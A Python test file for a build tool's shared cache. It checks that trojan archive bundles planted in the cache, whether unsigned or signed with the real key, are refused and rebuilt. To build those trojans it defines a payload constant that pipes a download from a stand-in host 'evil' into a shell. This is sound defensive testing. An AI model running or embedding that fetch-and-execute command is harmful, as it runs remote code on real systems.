"""The shared cache in its default set-up (issue 24, holes 1-3 and two of 8).

An attacker who can write the bucket but holds no signing key -- and, for
bundles, even one who holds it -- must not change what a reader ships: every
attack here is refused (the build succeeds with the reader's own result, the
refusal is reported) on a file:// store and on moto's S3.

Hole 2: trojan bundles under the real action key. A shared bundle is used
only when it is, member for member, the archive the reader's own files make
(`archive_check`), keys or not.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import tarfile
from pathlib import Path

import pytest

from flyte_build import archive
from flyte_build.hashing import sha256_hex
from flyte_build.stores import signing
from flyte_build.stores.action_entry import ActionEntry
from tests.reliability.test_poisoned_cache import (  # noqa: F401 (fixtures)
    _assert_refused_and_rebuilt, _reader, _rewrite, _s3_entry_key, _s3_reader, published, s3_published,
)

pytestmark = pytest.mark.reliability("shared cache trust II (default set-up)")

PRIVATE, PUBLIC = signing.keygen()
EVIL = b"import os; os.system('curl evil | sh')\n"


def _archive(members: dict[str, tuple[bytes, int]], tmp: Path) -> bytes:
    """The archive flyte-build itself would make of these (name: (bytes, mode)) files."""
    tmp.mkdir(parents=True, exist_ok=True)
    listed = []
    for i, (name, (data, mode)) in enumerate(members.items()):
        p = tmp / f"m{i}"
        p.write_bytes(data)
        os.chmod(p, mode)
        listed.append((name, str(p), None))
    buf = io.BytesIO()
    archive.write_tar_gz(buf, listed)
    return buf.getvalue()


def _real_members(root: Path) -> dict[str, tuple[bytes, int]]:
    return {n: ((root / n).read_bytes(), 0o644) for n in ("pkg/__init__.py", "pkg/a.py")}


def _trojans(root: Path, real_blob: bytes, tmp: Path) -> dict[str, bytes]:
    real = _real_members(root)
    other = io.BytesIO()
    with tarfile.open(fileobj=other, mode="w:gz") as tar:
        info = tarfile.TarInfo("pkg/a.py")
        info.size = len(EVIL)
        tar.addfile(info, io.BytesIO(EVIL))
    return {
        "another archive": other.getvalue(),
        "a member's bytes replaced": _archive({**real, "pkg/a.py": (EVIL, 0o644)}, tmp / "replaced"),
        "a member added": _archive({**real, "pkg/sitecustomize.py": (EVIL, 0o644)}, tmp / "added"),
        "a member made executable": _archive({**real, "pkg/a.py": (real["pkg/a.py"][0], 0o755)}, tmp / "mode"),
        "a second gzip member appended": real_blob + gzip.compress(EVIL),
        "trailing bytes": real_blob + b"\0" * 16,
    }


def _plant(store: Path, blob: bytes, sign: bool) -> str:
    hex_ = sha256_hex(blob)
    p = store / "cas" / "sha256" / hex_[:2] / hex_
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_bytes(blob)

    def change(doc):
        doc["outputs"] = [{"name": "bundle.tar.gz", "digest": hex_, "size": len(blob)}]
        doc.pop("sig", None)
        if sign:  # a writer holding the real key (a compromised CI job) signs the trojan
            entry = ActionEntry.parse(doc["key"], json.dumps(doc).encode())
            signed = signing.load_signer(environ={signing.SIGNING_KEY_ENV: PRIVATE}).sign(entry)
            doc.clear()
            doc.update(json.loads(signed.to_json()))

    _rewrite(store, "bundle:a", change)
    return hex_


@pytest.mark.parametrize("signed", [False, True], ids=["no keys", "signed with the real key"])
def test_trojan_bundles_under_the_real_key_are_refused(published, tmp_path, signed):
    """Hole 2: 6 trojans x (no keys, signed by the real key): each refused and rebuilt."""
    root, store, first = published
    real_hex = next(t["digest"] for t in first["targets"] if t["target"] == "bundle:a").split(":", 1)[1]
    real_blob = (store / "cas" / "sha256" / real_hex[:2] / real_hex).read_bytes()
    env = {signing.VERIFY_KEYS_ENV: PUBLIC} if signed else {}
    refused = 0
    for i, (what, blob) in enumerate(_trojans(root, real_blob, tmp_path / "trojans").items()):
        cli, copy, flags = _reader(published, tmp_path / f"a{i}", env=env)
        trojan = _plant(copy, blob, signed)
        out = tmp_path / f"a{i}" / "out"
        doc = _assert_refused_and_rebuilt(cli.build(*flags, "--out", str(out)), published, "not what the inputs here make")
        assert not (out / "bundle" / f"{trojan}.tar.gz").exists(), what
        assert (out / "bundle" / f"{real_hex}.tar.gz").read_bytes() == real_blob, what
        assert sum("not what the inputs here make" in w for w in doc["warnings"]) == 1, (what, doc["warnings"])
        refused += 1
    assert refused == 6


def test_an_honest_shared_bundle_is_still_a_hit(published, tmp_path):
    """The check costs a hit nothing: the writer's own bundle is used as before."""
    cli, _, flags = _reader(published, tmp_path)
    run = cli.build(*flags)
    run.assert_ok()
    rec = next(t for t in run.json()["targets"] if t["target"] == "bundle:a")
    assert (rec["status"], rec["source"]) == ("cached", "shared")
    assert run.json()["cache"]["corrupt"] == 0


def test_s3_trojan_bundle_under_the_real_key_is_refused(published, s3_published, tmp_path):
    s3, _ = s3_published
    root, store, first = published
    cli, prefix, flags = _s3_reader(published, s3_published, tmp_path)
    blob = _archive({**_real_members(root), "pkg/a.py": (EVIL, 0o644)}, tmp_path / "t")
    hex_ = sha256_hex(blob)
    s3.put_object(Bucket="poisoned", Key=f"{prefix}/cas/sha256/{hex_[:2]}/{hex_}", Body=blob)
    for obj in s3.list_objects_v2(Bucket="poisoned", Prefix=f"{prefix}/manifest/")["Contents"]:
        s3.delete_object(Bucket="poisoned", Key=obj["Key"])  # the attacker deletes it, so ac/ is read
    key = _s3_entry_key(s3, prefix, "bundle:a")
    doc = json.loads(s3.get_object(Bucket="poisoned", Key=key)["Body"].read())
    doc["outputs"] = [{"name": "bundle.tar.gz", "digest": hex_, "size": len(blob)}]
    s3.put_object(Bucket="poisoned", Key=key, Body=json.dumps(doc).encode())
    _assert_refused_and_rebuilt(cli.build(*flags), published, "not what the inputs here make")
    # the rebuild replaced the trojan entry: the next reader gets a verified hit
    fixed = json.loads(s3.get_object(Bucket="poisoned", Key=key)["Body"].read())
    assert fixed["outputs"][0]["digest"] != hex_


def test_every_cacheable_rule_checks_shared_results_or_needs_a_signature():
    """Hole 1's audit: a kind whose shared entries a reader cannot check against
    its own inputs (a pex, an image's pin, specs, a check's verdict) is used from
    the shared cache only when signed and verified; a deploy is never cached."""
    from rules.register import rules

    kinds = {r.kind: (r.cacheable, r.verify_shared is not None, r.needs_signature) for r in rules()}
    assert kinds == {
        "bundle": (True, True, False),
        "pex": (True, False, True),
        "image": (True, False, True),
        "specs": (True, False, True),
        "check": (True, False, True),
        "deploy": (False, False, False),
    }
